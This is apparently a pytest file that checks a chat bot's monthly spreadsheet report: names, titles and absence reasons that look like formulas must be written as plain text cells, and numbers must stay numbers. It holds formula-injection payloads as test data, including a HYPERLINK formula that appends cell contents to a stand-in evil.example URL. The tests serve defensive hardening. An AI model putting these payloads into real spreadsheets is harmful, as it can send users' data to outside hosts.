"""People's text in the /baocao workbook is text: a name or title that looks like a formula, an
error code or a number with a sign is written as a string cell and reads back as it was typed;
real numbers stay numbers."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy import insert
from sqlalchemy.ext.asyncio import AsyncEngine

from handlers.reports import Sheet, build_workbook
from scheduler.clock import ManualClock
from storage.crypto import FieldCipher
from storage.models import MemberStatus
from storage.schema import absences, document_targets, documents
from tests.conftest import START
from tests.support.harness import Harness
from tests.test_attendance import found_cell, import_members, insert_meeting

NOVEMBER = START - timedelta(days=10)

# What a spreadsheet program would run or reinterpret if it were written as typed.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "#N/A",
    "#DIV/0!",
)
# Names must have a letter (the roster import checks it); the repository takes them as given.
HOSTILE_NAMES = tuple(f"{text} Nam" for text in HOSTILE)
HOSTILE_CELL = '=HYPERLINK("https://evil.example","Chi bộ Khu phố 5")'


def read_back(text: str) -> str:
    """XML reads a carriage return as a line feed (XML 1.0 §2.11): that is all that changes."""
    return re.sub("\r\n?", "\n", text)


def cells_of(content: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def formula_elements(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >/]", archive.read(name))
        ]


async def test_names_and_titles_reach_the_report_as_text(
    sqlite_engine: AsyncEngine, cipher: FieldCipher, clock: ManualClock
) -> None:
    harness = Harness(sqlite_engine, cipher, clock)
    secretary, cell = await found_cell(harness, name=HOSTILE_CELL)
    ids = await import_members(
        harness, cell.id, [(name, MemberStatus.OFFICIAL) for name in HOSTILE_NAMES]
    )
    meeting_ids = [
        await insert_meeting(sqlite_engine, cell.id, NOVEMBER + timedelta(hours=n), title=title)
        for n, title in enumerate(HOSTILE)
    ]
    async with sqlite_engine.begin() as connection:
        for n, title in enumerate(HOSTILE):
            document = (
                await connection.execute(
                    insert(documents)
                    .values(
                        org_unit_id=cell.id,
                        kind="link",
                        title=title,
                        title_folded=title.lower(),
                        url=f"https://example.org/{n}",
                        created_at=NOVEMBER,
                    )
                    .returning(documents.c.id)
                )
            ).scalar_one()
            await connection.execute(
                insert(document_targets).values(
                    document_id=document, cell_id=cell.id, posted_at=NOVEMBER
                )
            )
        for name, meeting in zip(HOSTILE_NAMES, meeting_ids, strict=True):
            await connection.execute(
                insert(absences).values(
                    org_unit_id=cell.id,
                    meeting_id=meeting,
                    member_id=ids[name],
                    reason="other",
                    reason_text='=HYPERLINK("https://evil.example","lý do")',
                    status="approved",
                    requested_at=NOVEMBER - timedelta(days=1),
                )
            )

    workbook, _ = await harness.say(secretary, "/baocao 11/2026")
    assert workbook.file is not None
    content = workbook.file.content
    cells = cells_of(content)

    assert [cell for cell in cells if cell[1] in ("f", "e")] == []
    assert formula_elements(content) == []
    texts = [value for value, kind in cells if kind == "s"]
    # Every name and title, on every sheet it belongs to, exactly as typed.
    assert texts.count(read_back(HOSTILE_CELL)) == 1  # the cells sheet
    for name in HOSTILE_NAMES:
        assert texts.count(read_back(name)) == 2  # the members and absences sheets
    for title in HOSTILE:
        assert texts.count(read_back(title)) == 3  # meetings, absences and documents sheets


async def test_characters_xml_cannot_carry_do_not_break_the_report(
    sqlite_engine: AsyncEngine, cipher: FieldCipher, clock: ManualClock
) -> None:
    harness = Harness(sqlite_engine, cipher, clock)
    secretary, cell = await found_cell(harness)
    await insert_meeting(sqlite_engine, cell.id, NOVEMBER, title="Họp\x01 tháng\x1f 11\x00")

    workbook, chart = await harness.say(secretary, "/baocao 11/2026")

    assert workbook.file is not None and chart.file is not None
    written = [value for value, _ in cells_of(workbook.file.content)]
    assert "Họp\ufffd tháng\ufffd 11\ufffd" in written


def test_numbers_stay_numbers_and_text_that_looks_like_one_stays_text() -> None:
    content = build_workbook(
        [Sheet("Trang", ["=Tiêu đề", "+Số"], [["-1", -1], ["1.5", 1.5], ["=2", None], ["0", 0]])]
    )
    assert cells_of(content) == [
        ("=Tiêu đề", "s"),
        ("+Số", "s"),
        ("-1", "s"),
        (-1, "n"),
        ("1.5", "s"),
        (1.5, "n"),
        ("=2", "s"),
        (None, "n"),
        ("0", "s"),
        (0, "n"),
    ]
    assert formula_elements(content) == []
